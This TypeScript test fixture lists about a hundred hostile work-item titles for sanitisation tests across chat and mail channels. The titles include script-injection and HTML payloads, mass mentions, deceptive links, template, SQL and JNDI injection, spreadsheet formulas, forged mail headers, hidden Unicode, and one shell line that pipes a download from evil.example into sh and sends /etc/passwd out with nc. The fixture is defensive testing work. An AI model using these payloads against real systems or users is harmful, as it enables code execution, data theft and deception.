/**
 * A hundred titles that somebody could give a work item to make a message do what it should not: mention
 * people, link elsewhere, run a script, forge a header, hide what it says. Shared by all channels: each
 * renders them and looks at what became of them. Where one carries a script, the script sets `hostileFlag`
 * on the window; where it carries an address, that is on `hostileHost`.
 */
export interface HostileTitle {
  /** Unique, for the names of tests. */
  readonly what: string;
  readonly text: string;
}

export const hostileFlag = "pwned";
export const hostileHost = "evil.example";

const run = `window.${hostileFlag}=1`;
const site = `https://${hostileHost}`;

const markup: readonly HostileTitle[] = [
  { what: "a script element", text: `<script>${run}</script>` },
  { what: "a script element in capitals", text: `<SCRIPT SRC=${site}/x.js></SCRIPT>` },
  { what: "an image whose error runs", text: `<img src=x onerror="${run}">` },
  { what: "an image without quotes", text: `<img src=x onerror=${run}//` },
  { what: "a drawing that runs when loaded", text: `<svg onload=${run}>` },
  { what: "a drawing with a script", text: `<svg><script>${run}</script></svg>` },
  { what: "an end of an attribute", text: `"><img src=x onerror=${run}>` },
  { what: "an end of an attribute in single quotes", text: `'><img src=x onerror=${run}>` },
  { what: "an event handler in an attribute", text: `" autofocus onfocus="${run}" x="` },
  { what: "an end of the title", text: `</title><script>${run}</script>` },
  { what: "an end of a style", text: `</style><script>${run}</script>` },
  { what: "an end of a script", text: `</script><script>${run}</script>` },
  { what: "an end of a comment", text: `--><script>${run}</script><!--` },
  { what: "a comment that never ends", text: "<!-- the rest of the page" },
  { what: "a conditional comment", text: `<!--[if gte mso 9]><script>${run}</script><![endif]-->` },
  { what: "character data", text: `<![CDATA[<script>${run}</script>]]>` },
  {
    what: "a processing instruction",
    text: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>&e;',
  },
  { what: "a frame", text: `<iframe src="${site}"></iframe>` },
  { what: "a frame with a document", text: `<iframe srcdoc="<script>parent.${run}</script>">` },
  { what: "a form", text: `<form action="${site}"><input name=password><button>Sign in` },
  { what: "a base address", text: `<base href="${site}/">` },
  { what: "a refresh", text: `<meta http-equiv="refresh" content="0;url=${site}">` },
  { what: "a style that covers the page", text: "<style>*{display:none}</style>" },
  { what: "a style attribute", text: `<p style="background:url(${site}/pixel)">` },
  { what: "a tracking pixel", text: `<img src="${site}/pixel.gif" width=1 height=1>` },
  { what: "details that open", text: `<details open ontoggle=${run}>` },
  { what: "mutated markup", text: `<math><mtext><table><mglyph><style><img src=x onerror=${run}>` },
  { what: "a tag with a null in it", text: `<scr\u0000ipt>${run}</scr\u0000ipt>` },
  { what: "an old character set", text: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
];

const entities: readonly HostileTitle[] = [
  { what: "entities of a tag", text: `&lt;script&gt;${run}&lt;/script&gt;` },
  { what: "entities of entities", text: "&amp;lt;!channel&amp;gt;" },
  { what: "decimal entities", text: `&#60;img src=x onerror=${run}&#62;` },
  { what: "hexadecimal entities", text: `&#x3C;img src=x onerror=${run}&#x3E;` },
  { what: "entities without an end", text: "&lt&#60&#x3c!channel&gt" },
  { what: "a lone ampersand", text: "R&D & Q&A &" },
  { what: "an escape of a string", text: `\\u003cscript\\u003e${run}\\u003c/script\\u003e` },
  {
    what: "an end of a JSON string",
    text: `"},{"type":"section","text":{"type":"mrkdwn","text":"<!here>"}`,
  },
];

const mentions: readonly HostileTitle[] = [
  { what: "a mention of the channel", text: "<!channel>" },
  { what: "a mention of whoever is here", text: "<!here|here>" },
  { what: "a mention of everyone", text: "<!everyone> look" },
  { what: "a mention of a user", text: "<@U024BE7LH> did it" },
  { what: "a mention of a user group", text: "<!subteam^SAZ94GDB8|@leads>" },
  { what: "a mention of a channel", text: "<#C024BE7LR|general>" },
  { what: "plain mentions", text: "@channel @here @everyone @all @anna.keller #general" },
  { what: "a date command", text: `<!date^1392734382^Posted {date_num}^${site}|Posted>` },
  { what: "a mention in another chat's words", text: "<at>Anna Keller</at> please approve" },
  { what: "a mention in a mention", text: "<<!channel>!channel>" },
  { what: "a mention over two lines", text: "<!chan\nnel>" },
  { what: "mentions in full width", text: "＜!channel＞ ＠here" },
  { what: "an accessible mention of a wiki", text: "[~accountid:5b10a2844c20165700ede21g]" },
];

const links: readonly HostileTitle[] = [
  { what: "a link as Slack writes it", text: `<${site}|PLAN-1>` },
  { what: "a link within a link", text: `x|y><${site}|click` },
  { what: "a bare address", text: `${site}/login` },
  { what: "an address without a scheme", text: `www.${hostileHost} and ${hostileHost}/x` },
  { what: "a markdown link", text: `[click here](${site})` },
  { what: "a markdown picture", text: `![](${site}/pixel.png)` },
  { what: "a markdown reference", text: `[click][1]\n\n[1]: ${site}` },
  { what: "a markdown autolink", text: `<${site}>` },
  { what: "a link that runs", text: `[click](javascript:${run})` },
  { what: "a scheme that runs", text: `javascript:${run}` },
  { what: "a scheme with a tab in it", text: `java\tscript:${run}` },
  { what: "a link with an entity in its scheme", text: `<a href="jav&#x09;ascript:${run}">x</a>` },
  { what: "data as an address", text: `data:text/html,<script>${run}</script>` },
  { what: "data in base 64", text: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" },
  { what: "other schemes", text: "vbscript:x file:///etc/passwd ms-word:ofe|u|x slack://open" },
  { what: "a mail address", text: `<mailto:ceo@${hostileHost}|write to us>` },
  {
    what: "an address that looks like another",
    text: `https://hub.example@${hostileHost}/alerts/1`,
  },
  { what: "an address in unicode", text: "https://аpple.com/ https://ｅvil.example" },
];

const marks: readonly HostileTitle[] = [
  { what: "marks of Slack", text: "*bold* _italic_ ~gone~ `code` ```block``` > quote" },
  { what: "a quotation on a new line", text: "ok\n>>> *Approved by the board*" },
  { what: "a markdown heading", text: "ok\n\n# Urgent\n\n---\n" },
  { what: "a markdown table", text: "a | b\n--- | ---\nc | d" },
  { what: "emoji by name", text: ":rotating_light: :fire: :white_check_mark:" },
  { what: "a flood of emoji", text: "🚨".repeat(2000) },
  { what: "a family of emoji, cut anywhere", text: "👩‍👩‍👧‍👦".repeat(500) },
];

const templates: readonly HostileTitle[] = [
  { what: "template braces", text: "{{constructor.constructor('return process')()}} {{7*7}}" },
  { what: "template dollars", text: "${7*7} #{7*7} <%= 7*7 %> {% include '/etc/passwd' %}" },
  { what: "a card's binding", text: "${$root.secret} {{DATE(2026-01-01T00:00:00Z, SHORT)}}" },
  { what: "format directives", text: "%s%n%x%d {0} {title} $& $1 $` \\1" },
  { what: "SQL", text: "'; DROP TABLE alerts; -- \" OR 1=1" },
  { what: "a shell", text: "$(curl evil.example|sh) `id` ; cat /etc/passwd | nc evil.example 1" },
  { what: "a formula", text: "=cmd|'/C calc'!A0" },
  { what: "a formula that links", text: `@SUM(1+1) +1 -1 =HYPERLINK("${site}","x")` },
  { what: "a lookup", text: "${jndi:ldap://evil.example/a}" },
  { what: "names of prototypes", text: "__proto__ constructor toString" },
];

const invisible: readonly HostileTitle[] = [
  { what: "an override of direction", text: "invoice\u202Efdp.exe" },
  { what: "isolates that never end", text: "\u2066\u2067\u2068 open \u061C\u200E\u200F" },
  {
    what: "zero width inside a mention",
    text: "<\u200B!\u200Bchannel\u200B> @\u200Dhere \uFEFF#\u2060general",
  },
  { what: "nothing to see", text: "\u200B\u200C\u200D\u2060\uFEFF\u00AD\u3164\u2800" },
  { what: "controls and bells", text: "\u0000\u0001\u0007\b\u001B[31mred\u001B[0m\u007F\u0085" },
  {
    what: "forged headers",
    text: "Hi\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
  },
  { what: "line separators", text: "one\u2028two\u2029three\u000Bfour\u000Cfive" },
  { what: "half characters", text: "\uD83D lone \uDE80 halves \uDFFF\uD800" },
  { what: "tags and variation selectors", text: "a\u{E0041}\u{E0042}\u{E007F}\uFE0F\u{E0100}" },
  { what: "a tower of accents", text: `Z${"\u0335\u0321\u0322\u0327".repeat(300)}algo` },
  { what: "one very long word", text: "A".repeat(20_000) },
  { what: "ampersands that grow when escaped", text: "&<>".repeat(4000) },
  { what: "letters of other scripts", text: "Рayment арproved ｓｃｒｉｐｔ ﷽ ƒ ſ İ ı" },
  { what: "right to left", text: "مرحبا <!here> שלום (x) [y]" },
  { what: "only spaces", text: " \t\n\r " },
];

export const hostileTitles: readonly HostileTitle[] = [
  ...markup,
  ...entities,
  ...mentions,
  ...links,
  ...marks,
  ...templates,
  ...invisible,
];
